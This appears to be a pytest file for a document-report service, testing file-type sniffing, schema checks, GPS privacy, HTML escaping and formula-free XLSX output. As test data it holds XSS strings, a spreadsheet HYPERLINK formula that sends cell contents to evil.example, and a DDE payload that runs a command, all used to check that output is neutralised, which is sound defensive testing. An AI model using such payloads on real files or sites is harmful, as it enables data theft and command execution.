"""Content sniffing, the schema document, and the HTML and XLSX renderings of hostile content."""
from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import jsonschema
import pytest
from openpyxl import Workbook, load_workbook
from PIL import ExifTags, Image

from service.engine.kind import JobFailed
from service.reports import analyze, render_html, sniff, write_xlsx
from service.reports.schema import SCHEMA, schema_json, validate
from service.reports.settings import KEYS, ReportSettings

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def _minimal_pdf(path):
    from pypdf import PdfWriter
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.write(path)
    return path


def test_sniff_by_content_not_name(tmp_path):
    pdf = _minimal_pdf(tmp_path / "really-a-pdf.xlsx")
    assert sniff(pdf) == "pdf"
    assert analyze(pdf, {}, name="really-a-pdf.xlsx")["source"]["type"] == "pdf"

    png = tmp_path / "photo.pdf"
    Image.new("RGB", (4, 4)).save(png, "PNG")
    assert sniff(png) == "png"

    text = tmp_path / "notes.png"
    text.write_text("BM just some text that starts like a bitmap\n")
    assert sniff(text) is None
    with pytest.raises(JobFailed) as caught:
        analyze(text, {}, name="notes.png")
    assert caught.value.code == "UNSUPPORTED_FILE_TYPE" and caught.value.details == {"name": "notes.png"}

    docx = tmp_path / "letter.xlsx"  # an OOXML zip, but not a workbook
    with zipfile.ZipFile(docx, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    assert sniff(docx) is None

    legacy = tmp_path / "old.xls"
    legacy.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512))
    with pytest.raises(JobFailed) as caught:
        analyze(legacy, {})
    assert caught.value.code == "UNSUPPORTED_FILE_TYPE" and caught.value.details["detected"] == "ole2"

    empty = tmp_path / "empty"
    empty.write_bytes(b"")
    assert sniff(empty) is None


def test_input_size_cap(tmp_path):
    pdf = _minimal_pdf(tmp_path / "a.pdf")
    with pytest.raises(JobFailed) as caught:
        analyze(pdf, {"REPORT_MAX_INPUT_BYTES": 10})
    assert caught.value.code == "FILE_TOO_LARGE"


def test_schema_document_matches_the_code():
    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    assert (ROOT / "docs" / "report_schema.json").read_text(encoding="utf-8") == schema_json()


def test_schema_rejects_gps_in_public_exif():
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"GPSLatitude": [1, 2, 3]}, SCHEMA["$defs"]["image"]["properties"]["exif"])


def test_settings_keys_cover_every_limit():
    settings = ReportSettings.from_config({})
    assert {attr for attr, _, _ in KEYS.values()} == set(vars(settings))


@pytest.fixture
def hostile_workbook(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.title = "<i>Data"
    ws.append(["Label", "Amount"])
    for text in HOSTILE:
        cell = ws.cell(row=ws.max_row + 1, column=1)
        cell.value = text
        cell.data_type = "s"  # stored as text in the source, as a user's typed string would be
        ws.cell(row=cell.row, column=2, value=1)
    ws.append(["Contact: <img src=x onerror=alert(1)>@evil.example", 2])
    path = tmp_path / "hostile.xlsx"
    wb.save(path)
    return path


def test_html_escapes_hostile_text(hostile_workbook):
    result = analyze(hostile_workbook, {}, name='<script>alert("name")</script>.xlsx')
    validate(result)
    html = render_html(result)
    assert "<script" not in html.lower()
    assert "<img" not in html and "<i>Data" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html or "&lt;script&gt;" in html
    assert "&lt;i&gt;Data" in html
    assert "default-src 'none'" in html
    assert "http://" not in html.split("</head>")[0]  # no external assets


def test_xlsx_report_never_writes_source_text_as_formulas(hostile_workbook, tmp_path):
    result = analyze(hostile_workbook, {})
    # Put hostile strings in every string slot the report writes.
    result["fields"].append({"type": "pair", "text": HOSTILE[1], "value": HOSTILE[1], "key": HOSTILE[2],
                             "position": {"sheet": "x", "cell": "A1", "column": 0}})
    result["text"]["content"] = "\n".join(HOSTILE)
    result["sheets"][0]["columns"][0]["header"] = HOSTILE[1]
    result["warnings"].append({"code": "X", "message": HOSTILE[1]})
    out = tmp_path / "report.xlsx"
    write_xlsx(result, out)

    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    wb = load_workbook(out)
    assert wb.sheetnames == ["Summary", "Fields", "1 <i>Data", "Text"]
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    for text in HOSTILE:
        assert text in values  # kept verbatim, as text
    summary = {row[0]: row[1] for row in wb["Summary"].iter_rows(values_only=True)}
    assert summary["source sha256"] == result["source"]["sha256"]
    fields = list(wb["Fields"].iter_rows(values_only=True))
    assert fields[0][:3] == ("Type", "Value", "As found")


def _gps_photo(path):
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "TestCam"
    exif[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (37.0, 33.0, 57.6),
                                  ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (126.0, 58.0, 40.8)}
    Image.new("RGB", (8, 8)).save(path, "JPEG", exif=exif)
    return path


def test_gps_absent_from_outputs_by_default(tmp_path):
    photo = _gps_photo(tmp_path / "p.jpg")
    for result in (analyze(photo, {}), analyze(photo, {}, include_gps=True)):
        validate(result)
        html = render_html(result)
        buffer = io.BytesIO()
        write_xlsx(result, buffer)
        wb = load_workbook(io.BytesIO(buffer.getvalue()))
        cells = [str(v) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row if v is not None]
        for rendered in (html, "\n".join(cells), json.dumps({k: v for k, v in result.items() if k != "private"})):
            assert "37.566" not in rendered and "126.978" not in rendered and "GPSLatitude" not in rendered
        assert "Location (GPS)" in html and "present" in html

    result = analyze(photo, {}, include_gps=True)
    assert result["private"]["gps"]["latitude"] == 37.566
    assert "37.566" in render_html(result, include_private=True)
    buffer = io.BytesIO()
    write_xlsx(result, buffer, include_private=True)
    wb = load_workbook(io.BytesIO(buffer.getvalue()))
    assert ("GPS latitude", 37.566) in list(wb["Summary"].iter_rows(values_only=True))


def test_pdf_and_image_reports_render(tmp_path):
    pdf = analyze(_minimal_pdf(tmp_path / "a.pdf"), {})
    image = analyze(_gps_photo(tmp_path / "p.jpg"), {})
    for result, sheet in ((pdf, "Pages"), (image, "Image")):
        assert "<table>" in render_html(result)
        buffer = io.BytesIO()
        write_xlsx(result, buffer)
        assert sheet in load_workbook(io.BytesIO(buffer.getvalue())).sheetnames
